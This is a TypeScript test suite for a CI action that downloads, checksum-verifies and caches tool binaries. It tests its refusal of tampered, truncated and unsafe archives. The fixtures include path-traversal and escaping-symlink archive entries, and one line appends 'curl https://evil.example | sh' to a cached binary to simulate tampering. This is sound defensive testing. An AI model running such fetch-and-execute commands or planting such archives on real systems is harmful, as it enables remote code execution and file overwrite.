// The setup-tools action end to end: dist/setup-tools/index.js run as the
// runner runs it, downloading archives built here from a loopback server.
import { execFileSync } from "node:child_process";
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { runAction, type ActionResult } from "../support/run-action.js";
import {
  fakeBinary,
  makeTarGz,
  makeZip,
  PLATFORM,
  sha256,
  startServer,
  writeManifest,
  type TestServer,
} from "../tools/fixtures.js";

const ARCH = PLATFORM.arch;
const servers: TestServer[] = [];
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
});

async function server(...args: Parameters<typeof startServer>): Promise<TestServer> {
  const s = await startServer(...args);
  servers.push(s);
  return s;
}

function dirs() {
  const base = mkdtempSync(join(tmpdir(), "gitops-setup-tools-"));
  const workspace = join(base, "ws");
  const toolCache = join(base, "cache");
  mkdirSync(workspace);
  mkdirSync(toolCache);
  return { base, workspace, toolCache };
}

/** Fast retries, and PATH without the machine's own tools in the way. */
const ENV = { GITOPS_TOOLS_RETRY_DELAY_MS: "5", GITOPS_TOOLS_RETRIES: "2", PATH: "/usr/bin:/bin" };

function errorText(result: ActionResult): string {
  return result.annotations
    .filter((a) => a.level === "error")
    .map((a) => a.message)
    .join("\n");
}

function expectNothingInstalled(result: ActionResult, toolCache: string) {
  expect(result.addedPath).toEqual([]);
  expect(result.outputs).toEqual({});
  // No tool folder, no staging or trash folder: the cache is as it was.
  expect(readdirSync(toolCache)).toEqual([]);
  expect(readdirSync(result.runnerTemp).filter((n) => n.startsWith("gitops-tools-"))).toEqual([]);
  expect(result.stdout).not.toMatch(/\bat .*\.js:\d+/);
}

describe("actions/setup-tools", () => {
  it("installs a tar.gz, a zip and a bare binary, verified, into the tool cache and onto PATH", async () => {
    const { workspace, toolCache } = dirs();
    const kustomize = await makeTarGz([
      { path: "LICENSE", content: "license text" },
      { path: "kustomize", content: fakeBinary("v9.1.0") },
    ]);
    const zipTool = makeZip([
      { path: "docs/", content: "" },
      { path: "README.md", content: "readme" },
      { path: "bin/demo-zip", content: fakeBinary("demo-zip version 2.0.0") },
      { path: "bin/alias", symlink: "demo-zip" },
    ]);
    const bare = fakeBinary("Version: 3.0.1");
    const srv = await server({
      "/kustomize_v9.1.0.tar.gz": { body: kustomize },
      [`/demo-zip-2.0.0-${PLATFORM.os}-${ARCH}.zip`]: { body: zipTool },
      "/demo-bin-3.0.1": { body: bare, failFirst: { times: 1, status: 503 } },
    });
    writeManifest(workspace, {
      kustomize: {
        version: "9.1.0",
        url: `${srv.url}/kustomize_v{version}.tar.gz`,
        sha256: sha256(kustomize),
      },
      "demo-zip": {
        version: "2.0.0",
        url: `${srv.url}/demo-zip-{version}-{os}-{arch}.zip`,
        bin: "bin/demo-zip",
        sha256: sha256(zipTool),
      },
      "demo-bin": { version: "3.0.1", url: `${srv.url}/demo-bin-{version}`, sha256: sha256(bare) },
    });

    const result = await runAction(
      "setup-tools",
      { tools: "kustomize@9.1.0\ndemo-zip, demo-bin", manifest: "tools.yaml" },
      { workspace, toolCache, env: ENV },
    );
    expect(result.stderr).toBe("");
    expect(errorText(result)).toBe("");
    expect(result.exitCode).toBe(0);

    const expectedDirs = {
      kustomize: join(toolCache, "gitops-kustomize", "9.1.0", ARCH),
      "demo-zip": join(toolCache, "gitops-demo-zip", "2.0.0", ARCH),
      "demo-bin": join(toolCache, "gitops-demo-bin", "3.0.1", ARCH),
    };
    expect(JSON.parse(result.outputs.versions ?? "")).toEqual({
      kustomize: "9.1.0",
      "demo-zip": "2.0.0",
      "demo-bin": "3.0.1",
    });
    expect(JSON.parse(result.outputs.paths ?? "")).toEqual(expectedDirs);
    expect(result.addedPath.sort()).toEqual(Object.values(expectedDirs).sort());

    // Each binary is a regular 0755 file that runs, next to its install record.
    for (const [name, dir] of Object.entries(expectedDirs)) {
      const bin = join(dir, name);
      expect(statSync(bin).mode & 0o777).toBe(0o755);
      expect(readdirSync(dir).sort()).toEqual([".gitops-tool.json", name]);
      const record = JSON.parse(readFileSync(join(dir, ".gitops-tool.json"), "utf8")) as Record<
        string,
        string
      >;
      expect(record.binarySha256).toBe(sha256(readFileSync(bin)));
    }
    expect(execFileSync(join(expectedDirs.kustomize, "kustomize"), ["version"], { encoding: "utf8" })).toBe(
      "v9.1.0\n",
    );
    // Nothing else from the archives was kept, and no staging folder is left.
    expect(readdirSync(toolCache).sort()).toEqual(["gitops-demo-bin", "gitops-demo-zip", "gitops-kustomize"]);

    // The 503 was retried once; the log says so.
    expect(srv.requests.filter((p) => p === "/demo-bin-3.0.1")).toHaveLength(2);
    expect(result.annotations.some((a) => a.level === "warning" && a.message.includes("HTTP 503"))).toBe(
      true,
    );
    expect(result.summary).toContain("| kustomize | 9.1.0 | downloaded, verified |");
  });

  it("fails on a checksum mismatch and leaves nothing in the cache or on PATH", async () => {
    const { workspace, toolCache } = dirs();
    const archive = await makeTarGz([{ path: "kustomize", content: fakeBinary("v9.1.0") }]);
    const srv = await server({ "/k.tar.gz": { body: archive } });
    const wrong = sha256("something else");
    writeManifest(workspace, { kustomize: { version: "9.1.0", url: `${srv.url}/k.tar.gz`, sha256: wrong } });

    const result = await runAction(
      "setup-tools",
      { tools: "kustomize", manifest: "tools.yaml" },
      { workspace, toolCache, env: ENV },
    );
    expect(result.exitCode).toBe(2);
    const message = errorText(result);
    expect(message).toContain("kustomize 9.1.0: checksum mismatch");
    expect(message).toContain(`expected ${wrong}, got ${sha256(archive)}`);
    expect(message).toContain("nothing was installed");
    expectNothingInstalled(result, toolCache);
  });

  it("reports a 404 with the URL and does not retry it", async () => {
    const { workspace, toolCache } = dirs();
    const srv = await server({});
    writeManifest(workspace, {
      helm: { version: "9.9.9", url: `${srv.url}/helm-v{version}-{os}-{arch}.tar.gz`, sha256: sha256("x") },
    });
    const result = await runAction(
      "setup-tools",
      { tools: "helm", manifest: "tools.yaml" },
      { workspace, toolCache, env: ENV },
    );
    expect(result.exitCode).toBe(2);
    const path = `/helm-v9.9.9-${PLATFORM.os}-${ARCH}.tar.gz`;
    expect(errorText(result)).toContain(`helm 9.9.9: HTTP 404 Not Found from ${srv.url}${path}`);
    expect(srv.requests).toEqual([path]);
    expectNothingInstalled(result, toolCache);
  });

  it("says so when an HTML page comes back instead of the archive", async () => {
    const { workspace, toolCache } = dirs();
    const page = "<!DOCTYPE html>\n<html><body>Sign in to continue</body></html>\n";
    const srv = await server({
      "/typed.tar.gz": { body: page, contentType: "text/html; charset=utf-8" },
      // A proxy that labels its error page as a download: caught by the first bytes.
      "/untyped.tar.gz": { body: page, contentType: "application/octet-stream" },
    });
    writeManifest(workspace, {
      kustomize: { version: "9.1.0", url: `${srv.url}/typed.tar.gz`, sha256: sha256("a") },
      kubeconform: { version: "9.1.0", url: `${srv.url}/untyped.tar.gz`, sha256: sha256(page) },
    });
    const result = await runAction(
      "setup-tools",
      { tools: "kustomize kubeconform", manifest: "tools.yaml" },
      { workspace, toolCache, env: ENV },
    );
    expect(result.exitCode).toBe(2);
    const message = errorText(result);
    expect(message).toContain(
      `kustomize 9.1.0: ${srv.url}/typed.tar.gz returned an HTML page instead of the file`,
    );
    expect(message).toContain(
      `kubeconform 9.1.0: ${srv.url}/untyped.tar.gz returned an HTML page instead of the file`,
    );
    expectNothingInstalled(result, toolCache);
  });

  it("retries a truncated body, then fails saying it was cut off", async () => {
    const { workspace, toolCache } = dirs();
    const archive = await makeTarGz([{ path: "kustomize", content: fakeBinary("v9.1.0") }]);
    const srv = await server({ "/k.tar.gz": { body: archive, truncateAt: 40 } });
    writeManifest(workspace, {
      kustomize: { version: "9.1.0", url: `${srv.url}/k.tar.gz`, sha256: sha256(archive) },
    });
    const result = await runAction(
      "setup-tools",
      { tools: "kustomize", manifest: "tools.yaml" },
      { workspace, toolCache, env: ENV },
    );
    expect(result.exitCode).toBe(2);
    const message = errorText(result);
    expect(message).toContain(`the download was cut off after 40 of ${archive.length} bytes`);
    expect(message).toContain("gave up after 3 attempts");
    expect(srv.requests).toEqual(["/k.tar.gz", "/k.tar.gz", "/k.tar.gz"]);
    expectNothingInstalled(result, toolCache);
  });

  it("refuses archives with path traversal, absolute paths or escaping symlinks, even when the checksum matches", async () => {
    const { base, workspace, toolCache } = dirs();
    const traversal = await makeTarGz([
      { path: "kustomize", content: fakeBinary("v9.1.0") },
      { path: "../../escaped.txt", content: "owned" },
    ]);
    const absolute = await makeTarGz([
      { path: "helm", content: fakeBinary("v9.1.0") },
      { path: "/etc/cron.d/owned", content: "owned" },
    ]);
    const symlink = await makeTarGz([
      { path: "conftest", content: fakeBinary("9.1.0") },
      { path: "link", symlink: "../../../../etc/passwd" },
    ]);
    const zip = makeZip([
      { path: "gitleaks", content: fakeBinary("9.1.0") },
      { path: "../evil", content: "owned" },
    ]);
    const srv = await server({
      "/traversal.tar.gz": { body: traversal },
      "/absolute.tar.gz": { body: absolute },
      "/symlink.tar.gz": { body: symlink },
      "/evil.zip": { body: zip },
    });
    writeManifest(workspace, {
      kustomize: { version: "9.1.0", url: `${srv.url}/traversal.tar.gz`, sha256: sha256(traversal) },
      helm: { version: "9.1.0", url: `${srv.url}/absolute.tar.gz`, bin: "helm", sha256: sha256(absolute) },
      conftest: { version: "9.1.0", url: `${srv.url}/symlink.tar.gz`, sha256: sha256(symlink) },
      gitleaks: { version: "9.1.0", url: `${srv.url}/evil.zip`, sha256: sha256(zip) },
    });
    const result = await runAction(
      "setup-tools",
      { tools: "kustomize helm conftest gitleaks", manifest: "tools.yaml" },
      { workspace, toolCache, env: ENV },
    );
    expect(result.exitCode).toBe(2);
    const message = errorText(result);
    expect(message).toContain(
      'kustomize 9.1.0: the archive has an unsafe entry "../../escaped.txt" (a ".." segment)',
    );
    expect(message).toMatch(
      /helm 9\.1\.0: the archive has an unsafe entry "\/.*\/etc\/cron\.d\/owned" \(an absolute path\)/,
    );
    expect(message).toContain(
      'conftest 9.1.0: the archive has an unsafe entry "link" (a link that escapes the archive',
    );
    expect(message).toMatch(/gitleaks 9\.1\.0: the archive has an unsafe entry \(.*\.\.\/evil/);
    expectNothingInstalled(result, toolCache);
    // Nothing was written outside the cache either.
    expect(existsSync(join(base, "escaped.txt"))).toBe(false);
    expect(existsSync(join(toolCache, "..", "escaped.txt"))).toBe(false);
  });

  it("reuses a verified cached copy with the server stopped, and reinstalls a tampered one", async () => {
    const { workspace, toolCache } = dirs();
    const archive = await makeTarGz([{ path: "kubeconform", content: fakeBinary("v9.1.0") }]);
    const srv = await server({ "/kc.tar.gz": { body: archive } });
    writeManifest(workspace, {
      kubeconform: { version: "9.1.0", url: `${srv.url}/kc.tar.gz`, sha256: sha256(archive) },
    });
    const inputs = { tools: "kubeconform", manifest: "tools.yaml" };
    const first = await runAction("setup-tools", inputs, { workspace, toolCache, env: ENV });
    expect(first.exitCode).toBe(0);
    await srv.close();

    const second = await runAction("setup-tools", inputs, { workspace, toolCache, env: ENV });
    expect(errorText(second)).toBe("");
    expect(second.exitCode).toBe(0);
    expect(second.stdout).toContain("kubeconform 9.1.0: cached copy verified");
    expect(second.outputs).toEqual(first.outputs);
    expect(second.addedPath).toEqual(first.addedPath);
    expect(second.summary).toContain("| kubeconform | 9.1.0 | tool cache, verified |");

    // Someone changes the cached binary: it no longer verifies, so it is not used.
    const bin = join(toolCache, "gitops-kubeconform", "9.1.0", ARCH, "kubeconform");
    appendFileSync(bin, "curl https://evil.example | sh\n");
    const third = await runAction("setup-tools", inputs, { workspace, toolCache, env: ENV });
    expect(third.exitCode).toBe(2);
    expect(
      third.annotations.some((a) => a.level === "warning" && a.message.includes("failed verification")),
    ).toBe(true);
    expect(errorText(third)).toContain("kubeconform 9.1.0:");
    expect(third.addedPath).toEqual([]);
    // The tampered copy is gone, so nothing else (findTool) can run it either.
    expect(existsSync(bin)).toBe(false);
    expect(readdirSync(toolCache)).toEqual(["gitops-kubeconform"]);
  });

  it("uses the requested version when it is already on PATH, and ignores another version there", async () => {
    const { base, workspace, toolCache } = dirs();
    const bin = join(base, "bin");
    mkdirSync(bin);
    writeFileSync(join(bin, "kustomize"), fakeBinary("v9.1.0"), { mode: 0o755 });
    writeFileSync(join(bin, "helm"), fakeBinary("v9.0.0+gdeadbee"), { mode: 0o755 });
    const srv = await server({});
    writeManifest(workspace, {
      kustomize: { version: "9.1.0", url: `${srv.url}/kustomize.tar.gz`, sha256: sha256("k") },
      helm: {
        version: "9.1.0",
        url: `${srv.url}/helm.tar.gz`,
        sha256: sha256("h"),
        versionArgs: ["version", "--short"],
      },
    });
    const env = { ...ENV, PATH: `${bin}:${ENV.PATH}` };

    const onPath = await runAction(
      "setup-tools",
      { tools: "kustomize", manifest: "tools.yaml" },
      { workspace, toolCache, env },
    );
    expect(errorText(onPath)).toBe("");
    expect(onPath.exitCode).toBe(0);
    expect(JSON.parse(onPath.outputs.paths ?? "")).toEqual({ kustomize: bin });
    expect(onPath.addedPath).toEqual([]);
    expect(onPath.stdout).toContain(`kustomize 9.1.0: using ${join(bin, "kustomize")}, already on PATH`);
    expect(onPath.summary).toContain("| kustomize | 9.1.0 | already on PATH | — |");
    expect(srv.requests).toEqual([]);

    // helm on PATH says 9.0.0, not 9.1.0: it is not used, so the download is tried (and 404s here).
    const other = await runAction(
      "setup-tools",
      { tools: "helm", manifest: "tools.yaml" },
      { workspace, toolCache, env },
    );
    expect(other.exitCode).toBe(2);
    expect(srv.requests).toEqual(["/helm.tar.gz"]);
  });

  it("routes the built-in pins through a mirror, which must serve the exact upstream archive", async () => {
    const { workspace, toolCache } = dirs();
    const upstreamPath = `/kubernetes-sigs/kustomize/releases/download/kustomize%2Fv5.7.1/kustomize_v5.7.1_${PLATFORM.os}_${ARCH}.tar.gz`;
    const impostor = await makeTarGz([{ path: "kustomize", content: fakeBinary("v5.7.1") }]);
    const srv = await server({ [`/mirror${upstreamPath}`]: { body: impostor } });
    const result = await runAction(
      "setup-tools",
      { tools: "kustomize", mirror: `${srv.url}/mirror/` },
      { workspace, toolCache, env: ENV },
    );
    expect(srv.requests).toEqual([`/mirror${upstreamPath}`]);
    expect(result.exitCode).toBe(2);
    // The built-in pin is the real digest from the kustomize release, so a look-alike fails.
    expect(errorText(result)).toContain("kustomize 5.7.1: checksum mismatch");
    expectNothingInstalled(result, toolCache);
  });

  it("fails closed for a version without a pinned digest, showing how to pin it", async () => {
    const { workspace, toolCache } = dirs();
    const result = await runAction(
      "setup-tools",
      { tools: "kustomize@5.4.3" },
      { workspace, toolCache, env: ENV },
    );
    expect(result.exitCode).toBe(2);
    const message = errorText(result);
    expect(message).toContain("no pinned SHA-256 for kustomize 5.4.3");
    expect(message).toContain('    kustomize:\n      version: "5.4.3"\n      sha256:');
    expectNothingInstalled(result, toolCache);
  });

  it("names an invalid version string and a manifest error by file and line", async () => {
    const { workspace, toolCache } = dirs();
    const bad = await runAction("setup-tools", { tools: "helm@3.x" }, { workspace, toolCache, env: ENV });
    expect(bad.exitCode).toBe(2);
    expect(errorText(bad)).toContain('invalid version "3.x"');

    writeFileSync(join(workspace, "m.yaml"), "tools:\n  helm:\n    version: 3.19.0\n    sha: abc\n");
    const manifest = await runAction(
      "setup-tools",
      { tools: "helm", manifest: "m.yaml" },
      { workspace, toolCache, env: ENV },
    );
    expect(manifest.exitCode).toBe(2);
    expect(errorText(manifest)).toContain('m.yaml:4: unknown key "tools.helm.sha"');
  });
});
